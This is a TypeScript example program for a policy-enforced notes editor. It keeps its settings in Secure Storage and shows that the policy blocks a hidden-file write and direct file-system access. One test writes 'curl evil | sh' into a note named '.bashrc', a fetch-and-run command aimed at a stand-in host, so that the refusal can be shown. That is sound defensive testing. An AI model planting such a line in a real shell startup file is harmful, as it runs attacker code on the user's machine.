// The editor: keeps its settings in Secure Storage, writes and reads notes through the service,
// then shows what the policy refuses.
import { CallFailed, connect } from 'citadel';
import { readdir } from 'node:fs/promises';
import { NotesProxy } from '../gen/notes.Notes.idl.ts';
import { NotFound, SecureStorageProxy, SecureStorage_Get_Error } from '../gen/kl.SecureStorage.idl.ts';

const text = new TextEncoder();
const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes);

// Settings: encrypted in Secure Storage, in the namespace the policy pins to this class.
const settingsChannel = connect('settings');
const settings = new SecureStorageProxy(settingsChannel, settingsChannel.riid('storage'));
async function setting(key: string): Promise<string | undefined> {
  try {
    return decode((await settings.Get({ namespace: 'editor', key })).value);
  } catch (err) {
    if (err instanceof SecureStorage_Get_Error && err.params.status === NotFound) return undefined;
    throw err;
  }
}
let order = await setting('sort-order');
if (order === undefined) {
  order = 'descending';
  await settings.Put({ namespace: 'editor', key: 'sort-order', value: text.encode(order) });
}
const run = Number((await setting('runs')) ?? '0') + 1;
const { version } = await settings.Put({ namespace: 'editor', key: 'runs', value: text.encode(String(run)) });
console.log(`settings (Secure Storage, namespace "editor"): sort order ${order}; run #${run} (version ${version})`);

const notesChannel = connect('notes');
const notes = new NotesProxy(notesChannel, notesChannel.riid('notes'));

await notes.Add({ title: 'groceries', text: 'milk, eggs, bread' });
await notes.Add({ title: 'ideas', text: 'a kernel for every home' });
const titles = (await notes.Titles({})).titles.sort();
console.log(`titles (${order}):`, order === 'descending' ? titles.reverse() : titles);
console.log('groceries:', (await notes.Read({ title: 'groceries' })).text);

// A hidden file on the host: the policy's Regex rule on message.path refuses the service's
// WriteFile, and the editor sees the service fail.
try {
  await notes.Add({ title: '.bashrc', text: 'curl evil | sh' });
  console.error('the service wrote a hidden file: the policy is not enforced!');
} catch (err) {
  console.log(`Add(".bashrc") refused: ${(err as Error).message.replaceAll(' ⏎ ', '\n')}`);
}

// The editor holds a channel to the file-system driver (init.yaml), but the policy lets only the
// service use it: the driver refuses nothing here, the kernel does (Attach is denied).
try {
  await readdir('/');
  console.error('the editor reached the file-system driver directly: the policy is not enforced!');
} catch (err) {
  const cause = (err as Error).cause;
  if (!(cause instanceof CallFailed)) throw err;
  console.log(`direct file access refused (${(err as NodeJS.ErrnoException).code}, ${cause.status}):\n${cause.explanation}`);
}

console.log('once the run has ended, verify the audit log: npx citadel audit verify examples/notes/var/audit --key examples/notes/var/audit/audit.pub');
